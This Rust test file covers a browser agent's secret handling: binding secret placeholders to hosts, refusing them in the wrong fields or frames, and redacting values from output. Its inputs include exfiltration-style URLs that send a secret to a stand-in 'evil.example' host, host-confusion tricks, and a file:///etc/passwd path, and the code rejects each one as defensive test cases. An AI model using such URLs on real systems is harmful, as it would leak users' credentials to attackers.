//! Secrets, filled in and hidden.

use serde_json::json;

use super::*;

fn secrets() -> Secrets {
    let secret = |name: &str, bound, value: &str| Secret {
        name: name.to_owned(),
        bound,
        value: value.to_owned(),
    };
    let host = |host: &str| Bound::Host(host.to_owned());
    Secrets::new(vec![
        secret("pass", host("shop.example"), "hunter2 & more"),
        secret("pass", host("bank.example"), "another one"),
        secret("everywhere", Bound::Anywhere, "open sesame"),
    ])
}

fn action(written: &Value) -> Action {
    Action::parse(written).unwrap().0
}

fn typed(text: &str) -> Action {
    action(&json!({"type": "type", "selector": "#p", "text": text}))
}

/// The text of what is typed, or the address of where somebody goes.
fn told(filled: Option<Filled>) -> String {
    match filled.unwrap().action {
        Action::Type { text, .. } => text,
        Action::Navigate { url } => url,
        other => panic!("{other:?}"),
    }
}

#[test]
fn a_value_takes_its_place_on_its_own_site_only() {
    let secrets = secrets();
    for (page, filled) in [
        ("https://shop.example/login", "a hunter2 & more b"),
        ("https://bank.example:8443/", "a another one b"),
    ] {
        let done = secrets.fill(&typed("a {{secret:pass}} b"), page).unwrap();
        assert_eq!(told(done), filled);
    }
    for page in [
        "https://evil.example/",
        "about:blank",
        "https://shop.example@evil.example/",
        "data:text/html,https://shop.example/",
    ] {
        let refused = refused(secrets.fill(&typed("{{secret:pass}}"), page));
        assert!(matches!(refused, RefusedSecret::Elsewhere { .. }), "{page}: {refused}");
    }
    let both = typed("{{secret:everywhere}}{{ secret:everywhere }}!");
    let done = secrets.fill(&both, "http://any.example/").unwrap();
    assert_eq!(told(done), "open sesameopen sesame!");
    assert!(secrets.fill(&typed("no secret"), "about:blank").unwrap().is_none());
    let unknown = refused(secrets.fill(&typed("{{secret:none}}"), "http://any.example/"));
    assert_eq!(unknown, RefusedSecret::Unknown("none".to_owned()));
}

fn refused(filled: Result<Option<Filled>, RefusedSecret>) -> RefusedSecret {
    filled.err().unwrap()
}

#[test]
fn a_value_goes_into_no_frame_of_somebody_else() {
    let both = typed("{{secret:pass}}{{secret:everywhere}}");
    let filled = secrets().fill(&both, "https://shop.example/").unwrap().unwrap();
    let Permit(is_for) = filled.permit();
    assert!(is_for("https://shop.example/frame"));
    assert!(!is_for("https://ads.example/") && !is_for("") && !is_for("data:text/html,x"));
    let filled = secrets().fill(&typed("{{secret:everywhere}}"), "https://a.example/").unwrap();
    assert!((filled.unwrap().permit().0)("https://ads.example/"));
}

#[test]
fn an_address_takes_only_what_is_bound_to_its_host() {
    let secrets = secrets();
    let go = |url: &str| action(&json!({"type": "navigate", "url": url}));
    let done = secrets.fill(&go("https://shop.example/?t={{secret:pass}}"), "about:blank").unwrap();
    assert_eq!(told(done), "https://shop.example/?t=hunter2%20%26%20more");
    for url in [
        "https://evil.example/?t={{secret:pass}}",
        "https://{{secret:pass}}.evil.example/",
        "https://shop.example{{secret:pass}}/",
        "https://evil.example/?t={{secret:everywhere}}",
    ] {
        assert!(secrets.fill(&go(url), "https://shop.example/").is_err(), "{url}");
    }
}

#[test]
fn a_value_goes_nowhere_but_into_fields_and_addresses() {
    let secrets = secrets();
    for json in [
        json!({"type": "search", "query": "{{secret:everywhere}}"}),
        json!({"type": "click", "selector": "#{{secret:everywhere}}"}),
        json!({"type": "wait", "text": "{{secret:everywhere}}"}),
        json!({"type": "type", "selector": "#{{secret:everywhere}}", "text": "x"}),
        json!({"type": "upload", "selector": "#f", "files": ["{{secret:everywhere}}"]}),
    ] {
        let refused = secrets.fill(&action(&json), "https://shop.example/");
        assert!(matches!(refused, Err(RefusedSecret::Misplaced)), "{json}");
    }
    for json in [
        json!({"type": "ask", "question": "is {{secret:everywhere}} right?"}),
        json!({"type": "done", "answer": "{{secret:everywhere}}"}),
    ] {
        assert!(secrets.fill(&action(&json), "https://shop.example/").unwrap().is_none());
    }
}

#[test]
fn what_leaves_has_names_and_no_values() {
    let secrets = secrets();
    assert_eq!(secrets.hide("it is hunter2 & more!"), "it is {{secret:pass}}!");
    assert_eq!(secrets.hide("?q=hunter2+%26+more"), "?q={{secret:pass}}");
    let told = json!({"a": ["open sesame", {"open sesame": 7}], "b": true});
    let hidden = json!({"a": ["{{secret:everywhere}}", {"{{secret:everywhere}}": 7}], "b": true});
    assert_eq!(secrets.hide_in(&told), hidden);
    let pin = Secret { name: "pin".to_owned(), bound: Bound::Anywhere, value: "4711".to_owned() };
    assert_eq!(
        Secrets::new(vec![pin]).hide_in(&json!({"n": 4711})),
        json!({"n": "{{secret:pin}}"})
    );
    assert!(!format!("{secrets:?}").contains("sesame"));
}

#[test]
fn a_host_is_what_a_browser_takes_it_for() {
    for (url, expected) in [
        ("https://a.example/x", Some("a.example")),
        ("HTTPS://a.example:8443?x", Some("a.example")),
        ("http://user:pass@a.example#x", Some("a.example")),
        ("http://a.example\\@b.example/", Some("a.example")),
        ("http://[::1]:80/", Some("::1")),
        ("about:blank", None),
        ("file:///etc/passwd", None),
        ("https:///x", None),
    ] {
        assert_eq!(host(url), expected, "{url}");
    }
}
